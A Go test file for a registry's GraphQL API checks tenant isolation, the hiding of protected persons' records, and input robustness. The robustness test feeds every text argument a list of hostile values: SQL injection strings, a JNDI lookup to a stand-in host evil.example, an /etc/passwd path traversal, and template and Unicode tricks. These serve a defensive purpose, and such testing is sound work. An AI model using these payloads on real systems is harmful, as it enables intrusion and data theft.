package gql_test

import (
	"encoding/json"
	"fmt"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/vektah/gqlparser/v2/ast"

	"github.com/karna-registry/karna/graph/gql"
	"github.com/karna-registry/karna/graph/gql/gqltest"
	"github.com/karna-registry/karna/internal/access"
	"github.com/karna-registry/karna/internal/testkit"
	"github.com/karna-registry/karna/model"
)

// everything may be read and changed by.
var everything = access.Rights{
	Role: access.Admin, Scopes: []access.Scope{access.RestrictedRead, access.ProtectedRead, access.IdentifierLookup, access.AuditRead}, Actor: "test", Purpose: "test",
}

// argumentOf is one argument of a field, in a query in which a variable stands
// for it.
type argumentOf struct {
	name  string // "Query.person(id)"
	query string // with $x
}

// argumentsOf are the arguments of a type of all fields of the root, and of those
// that are reached below them, given one at a time; within objects and lists too.
func argumentsOf(schema *ast.Schema, typeName string) (out []argumentOf) {
	reaching := gql.Reaching(schema)
	for _, def := range schema.Types {
		if def.Kind != ast.Object || strings.HasPrefix(def.Name, "__") {
			continue
		}
		for _, f := range def.Fields {
			way := reaching[def.Name+"."+f.Name]
			for _, a := range f.Arguments {
				if way == "" || strings.HasPrefix(way, "subscription") {
					continue
				}
				for _, v := range valuesWith(schema, f.Name, a.Type, typeName) {
					if q, ok := with(schema, way, f, a, typeName, v.query); ok {
						out = append(out, argumentOf{def.Name + "." + f.Name + "(" + a.Name + v.name + ")", q})
					}
				}
			}
		}
	}
	slices.SortFunc(out, func(a, b argumentOf) int { return strings.Compare(a.name, b.name) })
	return out
}

// valuesWith are the values of a type, each with $x in one of its places, and the
// names of those. A list of values of properties is asked of one that there is.
func valuesWith(schema *ast.Schema, field string, of *ast.Type, typeName string) (out []argumentOf) {
	if of.Elem != nil {
		for _, v := range valuesWith(schema, field, of.Elem, typeName) {
			out = append(out, argumentOf{v.name, "[" + v.query + "]"})
		}
		return out
	}
	if of.NamedType == typeName {
		return []argumentOf{{"", "$x"}}
	}
	d := schema.Types[of.NamedType]
	if d.Kind != ast.InputObject {
		return nil
	}
	for _, f := range d.Fields {
		for _, v := range valuesWith(schema, field, f.Type, typeName) {
			fields := []string{f.Name + ": " + v.query}
			for _, other := range d.Fields {
				switch {
				case other == f:
				case d.Name == "ValueInput" && other.Name == "property":
					fields = append(fields, fmt.Sprintf("property: %q", propertyIn(field, f.Name)))
				case other.Type.NonNull && other.DefaultValue == nil:
					fields = append(fields, other.Name+": "+gql.SomeValue(schema, other.Type))
				}
			}
			out = append(out, argumentOf{"." + f.Name + v.name, "{" + strings.Join(fields, ", ") + "}"})
		}
	}
	return out
}

// propertyIn is a property that a list can be asked for by a link, or by a value.
func propertyIn(list, by string) string {
	if by == "to" {
		return map[string]string{"organisations": "parent", "geographies": "parent", "roles": "organisation", "services": "provider"}[list]
	}
	return map[string]string{"persons": "familyName", "roles": "title"}[list] + map[string]string{"organisations": "name", "geographies": "name", "services": "name"}[list]
}

var anyArguments = regexp.MustCompile(`\([^()]*\)`)

// with gives an argument of the last field on a way a value that has $x in it.
func with(schema *ast.Schema, way string, f *ast.FieldDefinition, a *ast.ArgumentDefinition, kind, value string) (string, bool) {
	at := strings.LastIndex(way, f.Name)
	if at < 0 {
		return "", false
	}
	before, after := way[:at+len(f.Name)], way[at+len(f.Name):]
	given := ""
	if strings.HasPrefix(after, "(") {
		loc := anyArguments.FindStringIndex(after)
		given, after = after[loc[0]+1:loc[1]-1], after[loc[1]:]
	}
	var kept []string
	for _, one := range strings.Split(given, ", ") {
		if one != "" && !strings.HasPrefix(one, a.Name+":") {
			kept = append(kept, one)
		}
	}
	kept = append(kept, a.Name+": "+value)
	text := before + "(" + strings.Join(kept, ", ") + ")" + after
	kindOf, rest, _ := strings.Cut(text, " ")
	// A whole answer tells more than __typename.
	rest = strings.Replace(rest, "{ __typename }", "{ __typename "+some(schema, f.Type.Name())+" }", 1)
	return fmt.Sprintf("%s($x: %s!) %s", kindOf, kind, rest), true
}

// some are the plain fields of a type.
func some(schema *ast.Schema, name string) string {
	var out []string
	for _, f := range schema.Types[name].Fields {
		if len(f.Arguments) == 0 && schema.Types[f.Type.Name()].IsLeafType() && !strings.HasPrefix(f.Name, "__") {
			out = append(out, f.Name)
		}
	}
	return strings.Join(out, " ")
}

// whatIs asks what a thing in a list is, by its ids.
func whatIs(list string) string {
	switch list {
	case "conflicts":
		return "records { id }"
	case "quarantine":
		return "place"
	case "recordIssues":
		return "record { id issues { original } } golden { id }"
	case "danglingReferences":
		return "target from { id }"
	}
	return "id"
}

// leadsNowhere are the filters by an id that find nothing in the town, or that
// there are not for a kind.
var leadsNowhere = map[string]bool{
	"Query.concepts(filter.under.organisation)": true, "Query.concepts(filter.values.to)": true, "Query.concepts(filter.within)": true,
	"Query.geographies(filter.under.organisation)": true, "Query.persons(filter.values.to)": true, "Query.roles(filter.within)": true,
}

// nobody has this id.
const nobody = "01900000-0000-7000-8000-0000000000ff"

// TestAnIDOfAnotherTenantIsTheIDOfNothing gives every argument that is an id, of
// every field, every id of another tenant of the same store, and the ids and
// cursors of it in every text: the answer is that to an id that nobody has.
func TestAnIDOfAnotherTenantIsTheIDOfNothing(t *testing.T) {
	gqltest.Neighbours(t, func(t *testing.T, one, other *gqltest.Town) {
		one.DeliverTrouble(t)
		other.DeliverTrouble(t)
		x := gql.New(gql.Options{Stewardship: one.Registry, Clock: one.Clock.Now, Log: testkit.Log(t)})
		ask := func(town *gqltest.Town, q string, id string) string {
			t.Helper()
			text, err := json.Marshal(x.Execute(t.Context(), town.View(everything), gql.Request{Query: q, Variables: map[string]any{"x": id}}))
			if err != nil {
				t.Fatal(err)
			}
			if id == "" {
				return string(text)
			}
			return strings.ReplaceAll(string(text), id, "«id»")
		}
		idsOf := func(town *gqltest.Town) (ids []string) {
			for h, err := range town.Store.ScanHeads(t.Context(), "hr", "") {
				if err != nil {
					t.Fatal(err)
				}
				ids = append(ids, h.ID.String())
			}
			return ids
		}
		mine, foreign := idsOf(one), idsOf(other)
		if len(foreign) < 10 {
			t.Fatalf("%d ids of the neighbour", len(foreign))
		}
		arguments := argumentsOf(gql.Schema(), "ID")
		if len(arguments) < 20 {
			t.Fatalf("%d arguments are ids: %v", len(arguments), arguments)
		}
		for _, a := range arguments {
			want := ask(one, a.query, nobody)
			if strings.Contains(want, gql.CodeInternal) {
				t.Errorf("%s fails: %s", a.name, want)
			}
			for i, id := range foreign {
				if i%4 != 0 && i > 4 {
					continue // each kind is among those that are left
				}
				if got := ask(one, a.query, id); got != want {
					t.Errorf("%s: an id of another tenant is answered with\n%s\nwant what nobody's is:\n%s", a.name, got, want)
				}
			}
		}
		// The test tells answers apart: some id of one's own is answered otherwise.
		for _, a := range arguments {
			if strings.Contains(a.name, "(filter") && !leadsNowhere[a.name] && !slices.ContainsFunc(mine, func(id string) bool { return ask(one, a.query, id) != ask(one, a.query, nobody) }) {
				t.Errorf("%s: one's own ids are answered like nobody's: %s", a.name, a.query)
			}
		}
		if own := ask(one, `query($x: ID!) { node(id: $x) { id } }`, one.IDs(t, "«hr/person/anna»")); own == ask(one, `query($x: ID!) { node(id: $x) { id } }`, nobody) {
			t.Error("one's own id is answered like nobody's")
		}
		revision, err := other.Store.Revision(t.Context())
		if err != nil || revision != 4 {
			t.Errorf("the neighbour is at revision %d: %v", revision, err)
		}
		// What of another tenant is a text, its cursors and the ids of its conflicts,
		// decisions, deliveries and quarantined items too, is answered as where there is
		// no other tenant.
		alone := gqltest.Like(t, one)
		alone.DeliverTrouble(t)
		texts := []string{foreign[0], foreign[len(foreign)-1]}
		for _, list := range []string{
			"persons", "roles", "organisations", "geographies", "services", "concepts", "changes", "conflicts", "quarantine", "recordIssues", "danglingReferences", `search(text: "e", first: 1)`,
		} {
			field, args, _ := strings.Cut(list, "(")
			if args == "" {
				args = "first: 1)"
			}
			text := ask(other, fmt.Sprintf(`{ page: %s(%s { nodes { %s } pageInfo { endCursor } } }`, field, args, whatIs(field)), "")
			var got struct {
				Data struct {
					Page struct {
						Nodes    []struct{ ID string }
						PageInfo struct{ EndCursor string }
					}
				}
			}
			if err := json.Unmarshal([]byte(text), &got); err != nil {
				t.Fatal(err)
			}
			page := got.Data.Page
			if page.PageInfo.EndCursor == "" || len(page.Nodes) == 0 {
				t.Fatalf("%s of the neighbour: %s", list, text)
			}
			texts = append(texts, page.PageInfo.EndCursor)
			if id := page.Nodes[0].ID; id != "" {
				texts = append(texts, id)
			}
		}
		texts = append(texts, anyID.FindAllString(ask(other, `{ deliveries { id } }`, ""), 2)...)
		if len(texts) < 20 {
			t.Errorf("%d texts of the neighbour are tried: %v", len(texts), texts)
		}
		for _, kind := range []string{"String", "ID"} {
			for _, a := range argumentsOf(gql.Schema(), kind) {
				for _, text := range texts {
					want, got := anyFailure.ReplaceAllString(ask(alone, a.query, text), "(an id)"), anyFailure.ReplaceAllString(ask(one, a.query, text), "(an id)")
					if got != want || strings.Contains(got, gql.CodeInternal) {
						t.Errorf("%s = %s of another tenant is answered with\n%s\nwhere there is none with\n%s", a.name, text, got, want)
					}
				}
			}
		}
		if revision, err := one.Store.Revision(t.Context()); err != nil || revision != 4 {
			t.Errorf("the town is at revision %d: %v", revision, err)
		}
	})
}

var anyID = regexp.MustCompile(`[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}`)

// hiddenAsAWhole are the records of which a class of callers is told nothing, whatever
// it asks and though it knows their ids. Of protected persons those with a login are told
// the flag, and only that (tellsTheFlag).
func hiddenAsAWhole() map[string][]string {
	protected := []string{"hr/role/hidden-employment", "hr/role/hidden-2-job"}
	ofSchool := []string{"school/role/school-hidden-role"}
	closed := []string{"hr/organisation/trader", "social/organisation/shelter", "social/organisation/journal", "social/person/client", "social/role/client-role"}
	pupils := []string{"school/role/elev-role"}
	return map[string][]string{
		"public": slices.Concat(protected, ofSchool, closed, pupils, []string{
			"hr/person/anna", "hr/person/bo", "hr/person/hidden", "school/person/elev", "school/person/school-hidden", "hr/role/anna-employment", "school/role/duty-7",
		}),
		"reader": slices.Concat(protected, ofSchool, closed, pupils), "steward": slices.Concat(protected, ofSchool, closed, pupils),
		"restricted-steward": slices.Concat(protected, ofSchool), "school-steward": slices.Concat(protected, ofSchool, closed), "school-protected": slices.Concat(protected, closed),
	}
}

// tellsTheFlag are the arguments by which a known id of a protected person is told to
// be one, or by nothing but that there is one.
var tellsTheFlag = map[string]bool{
	"Query.node(id)": true, "Query.person(id)": true, "Query.follow(from)": true, "Query.neighbourhood(id)": true, "Mutation.openRectification(id)": true,
}

// TestAGuessedIDTellsNothing: what a class of callers may not see is answered like what
// is not there, by every argument that is an id; but for the flag of a protected person
// whose id is known (privacy.md 3).
func TestAGuessedIDTellsNothing(t *testing.T) {
	town := gqltest.NewSheltering(t)
	x := gql.New(gql.Options{Stewardship: town.Registry, Clock: town.Clock.Now, Log: testkit.Log(t)})
	before, err := town.Store.Revision(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range gqltest.Watchers() {
		if w.Elsewhere {
			continue // TestAnIDOfAnotherTenantIsTheIDOfNothing
		}
		ask := func(q, id string) string {
			text, err := json.Marshal(x.Execute(t.Context(), town.View(w.Rights), gql.Request{Query: q, Variables: map[string]any{"x": id}}))
			if err != nil {
				t.Fatal(err)
			}
			return strings.ReplaceAll(string(text), id, "«id»")
		}
		told := func(name string, except map[string]bool) (out []string) {
			source, rest, _ := strings.Cut(name, "/")
			kindName, local, _ := strings.Cut(rest, "/")
			kind, err := model.ParseKind(kindName)
			if err != nil {
				t.Fatal(err)
			}
			id := town.ID(t, model.Source(source), kind, local).String()
			for _, a := range argumentsOf(gql.Schema(), "ID") {
				if got, want := ask(a.query, id), ask(a.query, nobody); got != want && !except[a.name] {
					out = append(out, a.name+": "+got)
				}
			}
			return out
		}
		hidden := hiddenAsAWhole()[w.Name]
		if len(hidden) == 0 {
			t.Fatalf("nothing is hidden from %s", w.Name)
		}
		for _, name := range hidden {
			for _, got := range told(name, nil) {
				t.Errorf("to %s the id of %s is answered otherwise than nobody's by %s", w.Name, name, got)
			}
		}
		if w.Rights.Role == access.Public {
			continue
		}
		for _, name := range []string{"hr/person/hidden", "hr/person/hidden-3"} {
			for _, got := range told(name, tellsTheFlag) {
				t.Errorf("to %s the id of %s, who is protected, is answered otherwise than nobody's by %s", w.Name, name, got)
			}
			if len(told(name, nil)) < 2 {
				t.Errorf("%s is not told the flag of %s", w.Name, name)
			}
		}
	}
	if after, err := town.Store.Revision(t.Context()); err != nil || after != before {
		t.Errorf("a question changed something: %d, %v", after, err)
	}
}

// TestNoTextIsACommand gives every argument that is a text what would be one to a
// database, a path or a pattern: nothing fails within, and nothing is changed.
func TestNoTextIsACommand(t *testing.T) {
	gqltest.Engines(t, func(t *testing.T, town *gqltest.Town) {
		x := gql.New(gql.Options{Stewardship: town.Registry, Clock: town.Clock.Now, Log: testkit.Log(t)})
		arguments := argumentsOf(gql.Schema(), "String")
		if len(arguments) < 40 {
			t.Fatalf("%d arguments are texts", len(arguments))
		}
		hostile := []string{
			`'; DROP TABLE golden; --`, `" OR ""="`, `') UNION SELECT body FROM audit --`, `$1`, `\'; SELECT pg_sleep(9); --`, "a\x00b", `%`, `_%_`, `\`, `*`,
			"\u202e\u2066\ufeff", "\ud7ff\ue000\U0010ffff", strings.Repeat("å", 20_000), strings.Repeat("a ", 5_000), `{{.}}`, `${jndi:ldap://evil.example/a}`, `../../etc/passwd`, "«»",
		}
		for _, a := range arguments {
			for _, h := range hostile {
				resp := x.Execute(t.Context(), town.View(everything), gql.Request{Query: a.query, Variables: map[string]any{"x": h}})
				for _, e := range resp.Errors {
					if e.Extensions["code"] == gql.CodeInternal {
						t.Errorf("%s = %.40q fails: %v", a.name, h, e)
					}
				}
			}
		}
		revision, err := town.Store.Revision(t.Context())
		if err != nil || revision != 3 {
			t.Errorf("the registry is at revision %d: %v", revision, err)
		}
		n := 0
		for _, err := range town.Store.ScanHeads(t.Context(), "hr", "") {
			if err != nil {
				t.Fatal(err)
			}
			n++
		}
		if n != len(strings.Fields("county municipality kommun school library anna bo hidden anna-employment bo-employment hidden-employment teacher-post lost")) {
			t.Errorf("%d records are left", n)
		}
	})
}
